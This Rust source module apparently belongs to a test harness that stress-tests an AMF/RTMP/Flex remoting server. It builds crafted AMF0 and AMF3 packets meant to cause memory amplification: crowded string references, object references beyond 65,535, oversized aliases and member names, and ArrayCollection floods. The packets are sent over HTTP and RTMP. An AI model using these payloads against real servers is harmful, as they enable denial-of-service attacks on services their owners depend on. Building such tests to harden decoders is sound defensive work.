//! Section 1: little in, much out.

use super::{Attack, attack, command_switched, crowd, crowd_items, packet_amf3};
use crate::target::{Encoding, Target};
use crate::wire;

pub(super) fn attacks() -> Vec<Attack> {
    vec![
        attack!("1a crowded strings over HTTP", crowded_over_http),
        attack!("1a crowded strings over RTMP", crowded_over_rtmp),
        attack!("1b crowded strings to no method, HTTP", no_method_over_http),
        attack!("1b strings behind an object to no method, RTMP", no_method_over_rtmp),
        attack!("1c Flex call, ArrayCollection of arguments", array_collection),
        attack!("1c Flex call, ArrayCollection to no method", array_collection_to_no_method),
        attack!("1d 100,000 references to one string, AMF0 client", string_to_amf0),
        attack!("1d the same in a packet of version 0", string_in_version_0),
        attack!("1d objects beyond reference 65,535, AMF0 client", late_objects),
        attack!("1e a long alias, AMF0 client", long_alias),
        attack!("1e long names of members, AMF0 client", long_names),
    ]
}

async fn crowded_over_http(target: Target) {
    target.post(&packet_amf3("siege.echo", &crowd(0, 3_600, 18, 62_000))).await;
}

async fn crowded_over_rtmp(target: Target) {
    let call = wire::command_amf3("siege.echo", 2.0, &crowd(0, 3_600, 18, 62_000));
    target.call_rtmp(Encoding::Amf3, &call).await;
}

async fn no_method_over_http(target: Target) {
    target.post(&packet_amf3("siege.nothing", &crowd(0, 3_600, 18, 62_000))).await;
    target.post(&packet_amf3("no.where", &crowd(0, 3_600, 18, 62_000))).await;
}

async fn no_method_over_rtmp(target: Target) {
    // An object stands before the arguments, so they may refer to it and do not stand alone.
    let arguments = [b"\x03\0\0\x09\x11", &crowd(0, 30_000, 1, 19_000)[..]].concat();
    for (name, encoding) in [("no.where", Encoding::Amf0), ("siege.nothing", Encoding::Amf0)] {
        target.call_rtmp(encoding, &wire::command_with_object(name, 2.0, &arguments)).await;
    }
    let arguments = [b"\x03\0\0\x09\x11", &crowd(0, 3_600, 18, 62_000)[..]].concat();
    target.call_rtmp(Encoding::Amf3, &wire::command_with_object("no.where", 2.0, &arguments)).await;
}

fn flex_call(operation: &str) -> Vec<u8> {
    let members: [&[u8]; 4] = [b"body", b"destination", b"messageId", b"operation"];
    let message = wire::object(b"flex.messaging.messages.RemotingMessage", &members);
    // Externalizable (07), and then its source.
    let collection = [&[0x0A, 0x07][..], &wire::name(b"flex.messaging.io.ArrayCollection")].concat();
    // An alias, four members and the collection's alias have the first six places.
    let items = wire::array(18 + 62_000, &crowd_items(6, 3_600, 18, 62_000));
    let arguments = if operation == "echo" { wire::array(1, &items) } else { items };
    let rest = [wire::string(b"siege"), wire::string(b"id"), wire::string(operation.as_bytes())].concat();
    let value = [message, collection, arguments, rest].concat();
    packet_amf3("null", &value)
}

async fn array_collection(target: Target) {
    target.post(&flex_call("echo")).await;
}

async fn array_collection_to_no_method(target: Target) {
    target.post(&flex_call("nothing")).await;
}

async fn string_to_amf0(target: Target) {
    let value = crowd(0, 2_500, 1, 100_000);
    target.call_rtmp(Encoding::Amf0, &command_switched("siege.echo", &value)).await;
}

async fn string_in_version_0(target: Target) {
    let body = wire::amf3_body(&crowd(0, 2_500, 1, 100_000));
    target.post(&wire::packet(0, &[("siege.echo", "/1", &body)])).await;
}

async fn late_objects(target: Target) {
    const EARLY: usize = 65_600;
    const MENTIONS: usize = 90_000;
    // Anonymous, dynamic, with its traits; then others by the reference 0; each ends after no member. The budget of
    // decoded memory is a multiple of the input, so there is something long, too.
    let mut items = wire::string(&vec![b'x'; 300_000]);
    items.extend(b"\x0A\x0B\x01\x01");
    items.extend(b"\x0A\x01\x01".repeat(EARLY - 1));
    items.extend([&b"\x0A\x01\x03a"[..], &wire::string(&[b'y'; 500]), b"\x01"].concat());
    // The array is the object 0.
    let reference = [vec![0x0A], wire::u29((EARLY + 1) << 1)].concat();
    items.extend(reference.repeat(MENTIONS));
    let value = wire::array(1 + EARLY + 1 + MENTIONS, &items);
    target.call_rtmp(Encoding::Amf0, &command_switched("siege.echo", &value)).await;
}

/// Objects of one traits record, the second of two values.
fn of_one_class(first: &[u8], members: usize) -> Vec<u8> {
    const OBJECTS: usize = 20_000;
    let nulls = vec![1; members];
    let items = [
        &wire::string(&vec![b'x'; 800_000])[..],
        first,
        &nulls,
        &[&[0x0A, 0x01][..], &nulls].concat().repeat(OBJECTS - 1),
    ];
    wire::array(1 + OBJECTS, &items.concat())
}

async fn long_alias(target: Target) {
    let value = of_one_class(&wire::object(&vec![b'a'; 60_000], &[]), 0);
    target.call_rtmp(Encoding::Amf0, &command_switched("siege.echo", &value)).await;
}

async fn long_names(target: Target) {
    let names: Vec<_> = (0..4).map(|index| [vec![b'a'; 15_000], vec![b'0' + index]].concat()).collect();
    let names: Vec<_> = names.iter().map(Vec::as_slice).collect();
    let value = of_one_class(&wire::object(b"", &names), names.len());
    target.call_rtmp(Encoding::Amf0, &command_switched("siege.echo", &value)).await;
}
